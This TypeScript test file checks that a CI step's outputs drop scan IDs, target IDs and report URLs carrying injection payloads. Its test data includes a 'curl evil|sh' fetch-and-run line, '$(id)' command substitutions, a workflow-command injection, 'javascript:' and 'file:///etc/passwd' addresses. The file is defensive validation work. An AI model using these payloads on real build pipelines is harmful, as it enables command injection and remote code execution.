import { describe, expect, it } from 'vitest';
import { NOTHING_PUBLISHED, outputsOf } from '../../../src/action/publish/outputs.ts';
import { type ResultDocument, readResult, writeResult } from '../../../src/gate/verdict/result-document.ts';
import { sampleResult } from '../../helpers/sample-result.ts';

/** A result whose service says these things of its scans. */
function said(...scans: readonly Partial<ResultDocument['scans'][number]>[]): ResultDocument {
  const sample = sampleResult(0);
  const [scan] = sample.scans;
  if (scan === undefined) throw new Error('the sample has no scan');
  return { ...sample, service: 'remote', scans: scans.map((values) => ({ ...scan, ...values })) };
}

function outputs(result: ResultDocument) {
  const dropped: string[] = [];
  return { values: outputsOf(result, NOTHING_PUBLISHED, (name) => dropped.push(name)), dropped };
}

describe('the outputs of a step', () => {
  it.each([
    '; curl evil|sh #\nFOO=bar',
    '`id`',
    '$(id)',
    'a,b',
    'a b',
    '"a"',
    'é',
    'a'.repeat(65),
    'scn_a\n::error::PWNID',
  ])('leave out the id %j', (id) => {
    const { values, dropped } = outputs(said({ scan_id: id, target_id: id }, { scan_id: 'scn_1', target_id: 'tgt-2' }));
    expect([values['scan-ids'], values['target-ids']]).toEqual(['scn_1', 'tgt-2']);
    expect(new Set(dropped)).toEqual(new Set(['scan-ids', 'target-ids']));
  });

  it.each([
    'https://evil.example/\n$(id)',
    'https://evil.example/$(id)',
    'https://evil.example/`id`',
    "https://evil.example/'",
    'https://evil.example/"',
    'https://evil.example/;id',
    'https://evil.example/|id',
    'https://evil.example/ x',
    'https://evil.example/\u202e',
    'https://user:password@evil.example/',
    'javascript:alert(1)',
    'file:///etc/passwd',
    `https://evil.example/${'a'.repeat(3_000)}`,
  ])('leave out the address %j', (url) => {
    const { values, dropped } = outputs(said({ report_url: url }));
    expect(values['report-url']).toBe('');
    expect(dropped).toEqual(['report-url']);
  });

  it('include valid values', () => {
    const url = 'https://scan.example:8443/reports/scn_1?format=html&page=%2Fa#top';
    const { values, dropped } = outputs(said({ report_url: url, scan_id: 'scn_01jd3k9x5v8w2m4n6p7q' }));
    expect(values).toMatchObject({ 'report-url': url, 'scan-ids': 'scn_01jd3k9x5v8w2m4n6p7q', outcome: 'failed' });
    expect(dropped).toEqual([]);
  });

  it('have a known outcome: an uploaded result with another outcome is discarded', () => {
    const text = writeResult(said({})).replace('"outcome": "failed"', '"outcome": "passed; id"');
    expect(readResult(text)).toBeNull();
  });
});
